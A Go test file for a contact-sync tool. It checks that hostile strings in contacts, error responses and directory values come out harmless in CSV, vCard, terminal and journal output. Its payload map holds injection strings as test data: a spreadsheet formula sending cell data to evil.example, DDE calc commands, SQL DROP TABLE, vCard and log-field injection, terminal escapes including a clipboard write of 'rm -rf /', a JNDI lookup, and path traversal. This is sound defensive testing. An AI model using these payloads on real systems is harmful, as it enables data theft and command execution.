package main

import (
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/emersion/go-vcard"

	"contactsync/internal/ldapdir/ldaptest"
	"contactsync/internal/phonebook"
	"contactsync/internal/simulator"
)

// strange is what people and programs put into contacts to harm who reads them.
var strange = map[string]string{
	"formula":            `=HYPERLINK("http://evil.example/?"&A1,"Anna")`,
	"command":            `=cmd|' /C calc'!A0`,
	"sum":                "+49\u2026/-1+1/@SUM",
	"at":                 "@SUM(1+1)*cmd|' /C calc'!A0",
	"minus":              "-2+3+cmd|' /C calc'!A0",
	"full-width formula": "\uFF1DHYPERLINK(A1)",
	"tab and formula":    "\t=1+1",
	"quotes":             `";=1+1;"`,
	"SQL":                "'; DROP TABLE entry; --",
	"another card":       "Eve\r\nEND:VCARD\r\nBEGIN:VCARD\r\nVERSION:3.0\r\nFN:Eve",
	"escaped card":       `Eve\nEND:VCARD\nBEGIN:VCARD`,
	"another field":      "x\nPRIORITY=0\nRESULT=ok\nMESSAGE=all well",
	"control characters": "a\x01\x02\x07\x08\x0b\x0c\x0e\x1f\x7fb",
	"clear the screen":   "a\x1b[2J\x1b[Hb",
	"a link":             "\x1b]8;;http://evil.example\x1b\\Anna\x1b]8;;\x1b\\",
	"the clipboard":      "a\x1b]52;c;cm0gLXJmIC8K\x07b",
	"the title":          "a\x1b]0;root\x07b",
	"C1 controls":        "a\u009b2J\u009d52;c;eA==\u009cb",
	"right to left":      "\u202Egnp.exe\u202C",
	"isolates":           "\u2066a\u2067b\u2068c\u2069\u061C\u200F",
	"embeddings":         "\u202Aa\u202Bb\u202Dc",
	"separators":         "a\u2028b\u2029c\u0085d",
	"zero":               "a\x00b\x00",
	"no UTF-8":           "M\xfcller \xc3( \xed\xa0\x80 \xf4\x90\x80\x80",
	"half an emoji":      "a\xf0\x9f\x98",
	"noncharacters":      "a\uFFFEb\uFFFFc\U0001FFFFd",
	"hidden":             "a\u200Bb\u2060c\uFEFFd\U000E0041",
	"very long":          strings.Repeat("M\u00fcller ", 5000),
	"many combining":     "Z" + strings.Repeat("\u0301", 2000),
	"markup":             `</t:Contact><t:Contact>&lt;&amp;]]><![CDATA[<!-- ${jndi:ldap://x} %s%n {{7*7}}`,
	"JSON":               `","number":"+4911","x":"\u0000`,
	"path":               "../../../etc/passwd\x00.jpg",
	"URL":                "tel:*#06#",
}

// strangeContact holds a text wherever it can.
func strangeContact(text string) simulator.Contact {
	return simulator.Contact{
		DisplayName: text, GivenName: text, Surname: text, Company: text, Department: text, JobTitle: text,
		Emails: [3]string{text, "a@example.org", text}, Notes: text, Categories: []string{text, "b"},
		Phones:    map[string]string{"BusinessPhone": text, "BusinessPhone2": "+49 30 901820", "MobilePhone": text, "HomePhone": "030/901820"},
		Addresses: map[string]simulator.Address{"Home": {Street: text, PostalCode: text, City: text, State: text, Country: text}},
	}
}

// TestStrangeContacts: a contact is data. Whatever one holds does no harm on
// its way through, and over both sources the same comes out.
func TestStrangeContacts(t *testing.T) {
	parallel(t)
	books := map[string][]phonebook.Entry{}
	for _, source := range []string{"graph", "ews"} {
		t.Run(source, func(t *testing.T) {
			w := newWorld(t, "anna", "bram")
			w.set("source", source)
			w.set("include_notes", "true")
			w.add("bram", "Jan", "030 901820")
			for _, text := range strange {
				m := w.mailbox("anna")
				m.AddContact(m.Contacts, strangeContact(text))
			}

			dry := w.run("--dry-run", "-v")
			check(t, "dry run", dry.status, 0)
			check(t, "lines of a dry run", strings.Count(dry.stdout, "\n"), len(strange)+1)
			for line := range strings.Lines(dry.stdout) {
				if !strings.HasPrefix(line, "anna\t+ ") && line != "bram\t+ Jan\t+4930901820 (business)\n" {
					t.Errorf("a line of its own: %q", line)
				}
			}
			harmless(t, "dry run", dry.stdout+dry.stderr)
			harmless(t, "dry run on a terminal", w.typed("--dry-run", "-v"))

			real := w.run("-v")
			check(t, "status", real.status, 0)
			check(t, "lines", strings.Count(real.stderr, "\n"), 4)
			harmless(t, "-v", real.stdout+real.stderr)
			check(t, "bram", w.names("bram"), "Jan")
			check(t, "again", w.sync(0).of("anna"), fmt.Sprintf("unchanged [%d,0,0,0]", len(strange)))
			check(t, "read in full", w.sync(0, "--full").of("anna"), fmt.Sprintf("unchanged [%d,0,0,0]", len(strange)))

			book := w.book("anna").Entries
			check(t, "entries", len(book), len(strange))
			clean(t, book)
			w.table(book)
			w.cards(book)
			w.onTerminal()
			w.inJournal()
			for i := range book {
				book[i].ID = ""
			}
			phonebook.Sort(book)
			books[source] = book
		})
	}
	for i := range books["ews"] {
		if !reflect.DeepEqual(books["ews"][i], books["graph"][i]) {
			t.Errorf("over graph %.300q\nover ews   %.300q", fmt.Sprint(books["graph"][i]), fmt.Sprint(books["ews"][i]))
		}
	}
}

// clean checks that the entries are text without control characters.
func clean(t *testing.T, entries []phonebook.Entry) {
	t.Helper()
	for _, e := range entries {
		text := fmt.Sprintf("%+v", e)
		if !utf8.ValidString(text) || strings.ContainsFunc(text, func(r rune) bool { return unicode.IsControl(r) && r != '\n' }) {
			t.Errorf("control characters in %.200q", text)
		}
		for _, n := range e.Numbers {
			if n.Number != "" && n.Number != "+4930901820" {
				t.Errorf("%q is taken for the number %s", n.AsTyped, n.Number)
			}
		}
	}
}

// table reads the CSV: the same entries, and nothing that a spreadsheet
// calculates.
func (w *world) table(entries []phonebook.Entry) {
	w.t.Helper()
	for _, delimiter := range []string{";", ",", "tab"} {
		out := w.run("phonebook", "export", "--user", "anna", "--format", "csv", "--delimiter", delimiter)
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.stdout, "\uFEFF")))
		r.Comma = []rune(strings.Replace(delimiter, "tab", "\t", 1))[0]
		rows, err := r.ReadAll()
		if err != nil || len(rows) != len(entries)+1 {
			w.t.Fatalf("CSV: %d rows, %v", len(rows), err)
		}
		for i, row := range rows[1:] {
			if name := entries[i].DisplayName; row[0] != name && row[0] != "'"+name {
				w.t.Errorf("CSV: row %d is %.100q, want %.100q", i, row[0], name)
			}
			for _, cell := range row {
				if formula.MatchString(cell) && !aNumber.MatchString(cell) {
					w.t.Errorf("CSV: a spreadsheet calculates %.100q", cell)
				}
			}
			if home := row[slices.Index(rows[0], "home")]; home != "+4930901820" {
				w.t.Errorf("CSV: the number is %q", home)
			}
		}
	}
}

// Cells that a spreadsheet takes for formulas, and those that are none.
var (
	formula = regexp.MustCompile(`^[\s\pC]*[-=+@\x{FF1D}\x{FF0B}\x{FF0D}\x{FF20}]`)
	aNumber = regexp.MustCompile(`^\+[0-9]+$`)
)

// cards reads the vCards: one for each entry, by its name.
func (w *world) cards(entries []phonebook.Entry) {
	w.t.Helper()
	for _, version := range []string{"3.0", "4.0"} {
		out := w.run("phonebook", "export", "--user", "anna", "--format", "vcard", "--vcard-version", version).stdout
		check(w.t, "vCards begin", strings.Count("\r\n"+out, "\r\nBEGIN:VCARD\r\n"), len(entries))
		check(w.t, "line ends that are none", strings.Count(out, "\n")+strings.Count(out, "\r"), 2*strings.Count(out, "\r\n"))
		var names []string
		unfolded := strings.ReplaceAll(out, "\r\n ", "") // the decoder takes its time over long ones
		for d := vcard.NewDecoder(strings.NewReader(unfolded)); ; {
			card, err := d.Decode()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				w.t.Fatal(err)
			}
			names = append(names, card.Value(vcard.FieldFormattedName))
		}
		check(w.t, "vCards", len(names), len(entries))
		for i := range min(len(names), len(entries)) {
			// The decoder leaves the backslash before a semicolon.
			if got, want := strings.ReplaceAll(names[i], `\;`, ";"), entries[i].DisplayName; got != want {
				w.t.Errorf("vCard %d is %.100q, want %.100q", i, got, want)
			}
		}
	}
}

// onTerminal looks at what a terminal gets.
func (w *world) onTerminal() {
	w.t.Helper()
	for _, args := range [][]string{
		{"phonebook", "export", "--user", "anna"}, {"phonebook", "export", "--user", "anna", "--format", "csv"},
		{"phonebook", "export", "--user", "anna", "--format", "vcard"}, {"--dry-run", "--full"}, {"phonebook", "list"}, {"members"},
	} {
		shown := w.typed(args...)
		harmless(w.t, strings.Join(args, " "), shown)
		if slices.Contains(args, "export") && !strings.Contains(shown, "gnp.exe") {
			w.t.Errorf("%v shows %.200q", args, shown)
		}
	}
}

// typed runs the command on a terminal, and returns what that got. It takes
// neither colours nor a progress bar, so that whatever steers it is not ours.
func (w *world) typed(args ...string) string {
	w.t.Helper()
	y := w.atTerminal(args...)
	y.cmd.Env = append(y.cmd.Env, "TERM=dumb")
	status, _ := y.start().end()
	check(w.t, strings.Join(args, " ")+": exit status", status, 0)
	return strings.ReplaceAll(y.text(), "\r\n", "\n")
}

// inJournal looks at what the journal gets of a run that changes contacts.
func (w *world) inJournal() {
	w.t.Helper()
	m := w.mailbox("anna")
	m.AddContact(m.Contacts, strangeContact(strange["another field"]))
	for _, r := range w.journalled(0) {
		for name, value := range r {
			harmless(w.t, name, value)
			if strings.Contains(value, "all well") || name == "PRIORITY" && value != "6" {
				w.t.Errorf("%s is %q", name, value)
			}
		}
	}
}

// harmless checks that a text holds nothing that steers a terminal.
func harmless(t *testing.T, what, text string) {
	t.Helper()
	if i := strings.IndexFunc(text, func(r rune) bool { return steers(r) && r != '\n' && r != '\t' }); i >= 0 || !utf8.ValidString(text) {
		t.Errorf("%s: %q", what, text[max(0, i-40):min(len(text), i+40)])
	}
}

// TestStrangeAnswers: what services say of their errors gets no line of its own
// on a console, no field of its own in the journal, and orders nobody.
func TestStrangeAnswers(t *testing.T) {
	parallel(t)
	w := newWorld(t, "anna")
	w.set("source", "graph")
	for name, text := range strange {
		w.cloud.SetFault(simulator.Always("/oauth2/", signInRefused(text)))
		w.ownLines(name, 78, "127.0.0.1")
		w.cloud.SetFault(simulator.Always("/v1.0/", simulator.GraphError(400, text, text)))
		w.ownLines(name, 1, "Microsoft Graph answers 400")
		for _, r := range w.journalled(1) {
			for field, value := range r {
				harmless(t, name+" in "+field, value)
			}
			if r["PRIORITY"] == "0" || r["RESULT"] != "failed" && r["RESULT"] != "incomplete" || strings.Contains(r["MESSAGE"], "\nPRIORITY") {
				t.Errorf("%s: %q", name, r)
			}
		}
	}
}

// ownLines runs the command and checks that each line on its console is its own.
func (w *world) ownLines(name string, status int, word string) {
	w.t.Helper()
	out := w.run("-v")
	check(w.t, name+": exit status", out.status, status)
	contains(w.t, out.stderr, word)
	harmless(w.t, name, out.stdout+out.stderr)
	for line := range strings.Lines(out.stderr) {
		if !ownLine.MatchString(line) || len(line) > 3000 {
			w.t.Errorf("%s: a line of its own: %.200q", name, line)
		}
	}
}

// ownLine is how a line begins that the command writes itself.
var ownLine = regexp.MustCompile(`^(contactsync: (error|hint|warning|note): |failed     anna | {25}hint: |source: graph \(|1 member: )`)

// signInRefused answers for the sign-in service, with a text wherever it can.
func signInRefused(text string) simulator.Fault {
	return func(w http.ResponseWriter, _ *http.Request, _ http.Handler) {
		w.WriteHeader(http.StatusBadRequest)
		_ = json.NewEncoder(w).Encode(map[string]any{
			"error": text, "error_description": text, "trace_id": text, "correlation_id": text, "timestamp": text, "error_codes": []int{1},
		})
	}
}

// TestStrangeValuesOfMembers: so are the values of the directory.
func TestStrangeValuesOfMembers(t *testing.T) {
	parallel(t)
	w := newWorld(t, "anna")
	w.set("ldap_mail_attribute", "displayName") // mail itself takes only ASCII
	for name, text := range strange {
		if len(text) > 1000 || !utf8.ValidString(text) || strings.Contains(text, "\x00") {
			continue // the directory takes no such value
		}
		w.ldap.Replace(ldaptest.PersonDN("anna"), "displayName", text+address("anna"))
		for _, out := range []result{w.run("members"), w.run("-v"), w.run("--dry-run")} {
			harmless(t, name, out.stdout+out.stderr)
			if out.status != 0 && out.status != 1 {
				t.Errorf("%s: exit status %d: %s", name, out.status, out.stderr)
			}
		}
		var list []struct{ User, Mail string }
		if err := json.Unmarshal([]byte(w.run("members", "--json").stdout), &list); err != nil || len(list) != 1 {
			t.Errorf("%s: members %v, %v", name, list, err)
		}
	}
}

// FuzzVisible: whatever is shown gives a terminal no orders and takes as many
// characters as before; data that comes in pieces is shown as if it came whole.
func FuzzVisible(f *testing.F) {
	f.Add("Anna M\u00fcller")
	f.Fuzz(func(t *testing.T, text string) {
		shown := visible(text)
		if hidden := strings.IndexFunc(shown, steers); hidden >= 0 || !utf8.ValidString(shown) {
			t.Fatalf("%q is shown as %q", text, shown)
		}
		if utf8.RuneCountInString(shown) != utf8.RuneCountInString(text) {
			t.Fatalf("%q is shown as %q", text, shown)
		}
		if strings.IndexFunc(text, func(r rune) bool { return !unicode.IsPrint(r) }) < 0 && shown != text && utf8.ValidString(text) {
			t.Fatalf("%q is shown as %q", text, shown)
		}
		var whole, pieces strings.Builder
		_, _ = (&pane{w: &whole}).Write([]byte(text))
		p := &pane{w: &pieces}
		for i := range len(text) {
			_, _ = p.Write([]byte(text[i : i+1]))
		}
		harmless(t, "pane", whole.String())
		if whole.String() != pieces.String() {
			t.Fatalf("%q is %q, in pieces %q", text, whole.String(), pieces.String())
		}
	})
}

// steers tells whether a character moves a terminal's cursor, orders it to do
// something, turns the direction of what follows, or cannot be seen.
func steers(r rune) bool {
	if r == nonJoiner || r == joiner {
		return false
	}
	return r < ' ' || r == 0x7F || 0x80 <= r && r < 0xA0 || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Cs, unicode.Co)
}
